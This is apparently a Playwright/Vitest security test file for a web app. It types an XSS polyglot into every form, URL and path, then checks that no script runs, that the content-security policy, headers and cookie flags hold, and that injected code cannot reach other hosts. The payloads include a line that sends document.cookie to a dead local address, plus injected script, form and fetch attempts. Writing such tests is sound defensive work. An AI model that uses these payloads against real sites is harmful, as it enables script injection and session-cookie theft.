import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ROLES } from '../../src/trust/roles.ts';
import { buildServer } from '../../src/web/server.ts';
import { readTls } from '../../src/web/tls.ts';
import { attacks, LONG, THOROUGH } from '../support/attacks.ts';
import { openBrowser } from '../support/browser.ts';
import { makeCertificate } from '../support/certificate.ts';
import { discover, filledIn } from '../support/forms.ts';
import { state } from '../support/make-things.ts';
import { openWorld, type Reader, type World } from '../support/open-world.ts';
import { filled, situationsOf } from '../support/things.ts';

let world: World;
let reader: Reader;
let browser: Browser;
let base: string;

beforeAll(async () => {
  world = await openWorld();
  base = `http://localhost:${new URL(await world.bench.app.listen({ port: 0, host: '127.0.0.1' })).port}`;
  world.bench.setOrigin(base);
  browser = await openBrowser();
  reader = await world.reader(ROLES);
  await state(world, reader, 'in force');
}, LONG);
afterAll(async () => {
  await browser?.close();
  await world?.close();
});

const ALIVE = `'"><img src=zqx onerror=zqx()><script>zqx()</script><b data-zqx>x</b><svg/onload=zqx()>" onfocus=zqx() autofocus x="javascript:zqx()`;

/** Every header that is no business of the connection, as it must be. */
const HEADERS = {
  'content-security-policy':
    "default-src 'none';script-src 'self';style-src 'self';img-src 'self';connect-src 'self';form-action 'self';base-uri 'none';frame-ancestors 'none'",
  'cross-origin-opener-policy': 'same-origin',
  'cross-origin-resource-policy': 'same-origin',
  'origin-agent-cluster': '?1',
  'referrer-policy': 'no-referrer',
  'x-content-type-options': 'nosniff',
  'x-dns-prefetch-control': 'off',
  'x-download-options': 'noopen',
  'x-frame-options': 'DENY',
  'x-permitted-cross-domain-policies': 'none',
  'permissions-policy':
    'accelerometer=(), camera=(), display-capture=(), geolocation=(), gyroscope=(), magnetometer=(), microphone=(), midi=(), payment=(), usb=(), publickey-credentials-create=(self), publickey-credentials-get=(self)',
  'content-type': 'text/html; charset=utf-8',
  'cache-control': 'private, no-store',
};
const OF_THE_CONNECTION = [
  'date',
  'connection',
  'keep-alive',
  'content-length',
  'set-cookie',
  'transfer-encoding',
  'vary',
];

/** What a page tells when it is asked, from within. */
interface Told {
  ran: boolean;
  violations: string[];
  alive: string[];
}
/** In a page as it was sent, its attributes emptied: what the policy would keep from running. */
const INLINE = /<style|\sstyle=|<script(?![^>]*\ssrc=)|<\w[^>]*\son\w+=|<(?:iframe|object|embed)\b/i;
const WATCH = `globalThis.told = { ran: false, violations: [] };
  globalThis.zqx = () => { told.ran = true; };
  document.addEventListener('securitypolicyviolation', (e) => told.violations.push(e.effectiveDirective + ' ' + e.blockedURI + ' ' + e.sample));`;
const ASK = `({ ...told,
  alive: [...document.querySelectorAll('[data-zqx], img[src*=zqx], [onerror], [onload], [onfocus], [href^="javascript:"]')].map((e) => e.outerHTML.slice(0, 200)) })`;

async function windowOf(one: Reader): Promise<{ page: Page; context: BrowserContext; asked: string[] }> {
  // A session belongs to the browser that began it, by what the browser says of itself.
  const context = await browser.newContext({ userAgent: 'lightMyRequest' });
  await context.addInitScript(WATCH);
  await context.addCookies(
    Object.entries(one.visitor.cookies).map(([name, value]) => ({ name, value, url: base, httpOnly: true })),
  );
  const page = await context.newPage();
  const asked: string[] = [];
  page.on('request', (request) => asked.push(request.url()));
  return { page, context, asked };
}

describe('in a real browser', () => {
  it(
    'nothing that was typed into any form comes to life on any page, and every page keeps to its policy',
    () =>
      attacks(async (attack) => {
        const inputs = await discover(world, reader);
        const typed = new Set<string>();
        for (const form of inputs.forms.filter(
          ({ method, url }) => method === 'POST' && url !== '/sign-out',
        )) {
          const [one] = situationsOf(form.url) ?? [];
          const there = filled(form.url, one === undefined ? {} : await one.make(world, reader));
          const usual = filledIn(form);
          // Once in every field, and once only where words are asked for, so that the rest is right and it is kept.
          const words = form.fields.filter(({ type }) => ['text', 'textarea', 'input'].includes(type));
          const all = { ...usual, ...Object.fromEntries(form.fields.map(({ name }) => [name, ALIVE])) };
          const right = {
            ...usual,
            ...Object.fromEntries(
              words.map(({ name }) => [name, /name/.test(name) ? ALIVE.slice(0, 90) : ALIVE]),
            ),
          };
          for (const fields of [all, right]) {
            const answer = await reader.visitor.post(there, fields);
            if (answer.statusCode === 303) typed.add(String(answer.headers.location).split('#')[0] ?? '');
          }
        }
        expect(typed.size, 'pages that forms which took it lead to').toBeGreaterThan(8);
        await state(world, reader, 'in force');
        expect(inputs.pages.length).toBeGreaterThan(30);
        // The sample leaves out the same page with other queries.
        const pages = THOROUGH ? inputs.pages : inputs.pages.filter((there) => !there.includes('?'));
        const { page, context, asked } = await windowOf(reader);
        const quoted = [
          `/search?q=${encodeURIComponent(ALIVE)}`,
          `/signals?text=${encodeURIComponent(ALIVE)}`,
          `/audit?who=${encodeURIComponent(ALIVE)}`,
          `/no/such/${encodeURIComponent(ALIVE)}`,
          '/sign-in',
          `/sign-in/${encodeURIComponent(ALIVE.slice(0, 60))}`,
        ];
        for (const there of new Set([...pages, ...typed, ...quoted])) {
          if (there.endsWith('.csv') || there.includes('.csv?')) continue;
          asked.length = 0;
          const answer = await page.goto(`${base}${there}`);
          await page.waitForLoadState('load');
          const told = await page.evaluate<Told>(ASK);
          const sent = (await answer?.text()) ?? '';
          await attack('script injection, in a real browser', there, () => {
            expect(told.ran).toBe(false);
            expect(told.alive).toEqual([]);
          });
          await attack('page or header in a real browser', there, async () => {
            expect(told.violations).toEqual([]);
            expect(INLINE.exec(sent.replaceAll(/="[^"]*"/g, '=""'))?.[0]).toBe(undefined);
            expect(asked.filter((url) => !url.startsWith(`${base}/`))).toEqual([]);
            const headers = await answer?.allHeaders();
            for (const name of OF_THE_CONNECTION) delete headers?.[name];
            // The state of a job is asked for by a script, as JSON.
            const type = headers?.['content-type'] ?? '';
            if (type.startsWith('application/json')) return;
            expect(headers).toEqual(HEADERS);
          });
        }
        await context.close();
      }),
    LONG,
  );

  it(
    'a script that got in all the same would not run, and would reach nobody',
    () =>
      attacks(async (attack) => {
        const { page, context } = await windowOf(reader);
        await page.goto(`${base}/account`);
        const tries: [string, string][] = [
          [
            'a script in the page',
            `{ const s = document.createElement('script'); s.textContent = 'zqx()'; document.body.append(s); }`,
          ],
          ['a handler', `document.body.insertAdjacentHTML('beforeend', '<img src=zqx onerror="zqx()">')`],
          [
            'a script of elsewhere',
            `{ const s = document.createElement('script'); s.src = 'http://127.0.0.1:9/x.js'; document.body.append(s); }`,
          ],
          [
            'eval',
            `{ const b = document.createElement('button'); b.setAttribute('onclick', 'zqx()'); document.body.append(b); b.click(); }`,
          ],
          ['a style', `document.body.insertAdjacentHTML('beforeend', '<style>body{color:red}</style>')`],
          ['a frame', `document.body.insertAdjacentHTML('beforeend', '<iframe src="/account"></iframe>')`],
          [
            'a picture of elsewhere',
            `document.body.insertAdjacentHTML('beforeend', '<img src="http://127.0.0.1:9/x.png?' + document.cookie + '">')`,
          ],
          [
            'a form to elsewhere',
            `{ const f = document.createElement('form'); f.action = 'http://127.0.0.1:9/'; f.method = 'post'; document.body.append(f); f.submit(); }`,
          ],
          ['a request to elsewhere', `fetch('http://127.0.0.1:9/', { mode: 'no-cors' }).catch(() => {})`],
          [
            'another base',
            `{ const b = document.createElement('base'); b.href = 'http://127.0.0.1:9/'; document.head.append(b); }`,
          ],
        ];
        for (const [what, script] of tries) {
          await attack('page or header in a real browser', what, async () => {
            await page.evaluate('told.violations.length = 0');
            await page.evaluate(`(() => { ${script}; })()`);
            const told = () => page.evaluate<string[]>('told.violations');
            await expect.poll(told, { timeout: 20_000 }).not.toEqual([]);
            expect((await page.evaluate<Told>(ASK)).ran).toBe(false);
            expect(page.url()).toBe(`${base}/account`);
          });
        }
        await attack('page or header in a real browser', 'cookies read by a script', async () =>
          expect(await page.evaluate('document.cookie')).toBe(''),
        );
        await context.close();
      }),
    LONG,
  );

  it(
    'cookies are kept from scripts, other sites and plain HTTP',
    () =>
      attacks(async (attack) => {
        const { bench } = world;
        let secure = 'https://localhost';
        const app = await buildServer({
          ...bench.services,
          origin: () => secure,
          tls: readTls(makeCertificate(bench.stores.folder), new Date()),
        });
        secure = `https://localhost:${new URL(await app.listen({ port: 0, host: '127.0.0.1' })).port}`;
        for (const [at, prefix] of [
          [base, ''],
          [secure, '__Host-'],
        ] as const) {
          const context = await browser.newContext({ ignoreHTTPSErrors: true });
          const page = await context.newPage();
          await page.goto(await bench.link(`Cookie ${prefix} Mock`, 'analyst', at));
          const [answer] = await Promise.all([
            page.waitForResponse((one) => one.request().method() === 'POST'),
            page.click('main button'),
          ]);
          await page.waitForLoadState('load');
          expect(new URL(page.url()).pathname).toBe('/signals');
          const cookies = await context.cookies();
          expect(cookies.map(({ name }) => name).sort()).toEqual([
            `${prefix}upstander_form`,
            `${prefix}upstander_session`,
          ]);
          for (const cookie of cookies) {
            await attack('page or header in a real browser', `${at} cookie ${cookie.name}`, () =>
              expect(cookie).toMatchObject({
                httpOnly: true,
                sameSite: 'Strict',
                secure: prefix !== '',
                path: '/',
                domain: 'localhost',
                expires: -1,
              }),
            );
          }
          expect(await answer.headerValue('strict-transport-security')).toBe(
            prefix === '' ? null : 'max-age=31536000',
          );
          await context.close();
        }
        await app.close();
      }),
    LONG,
  );
});
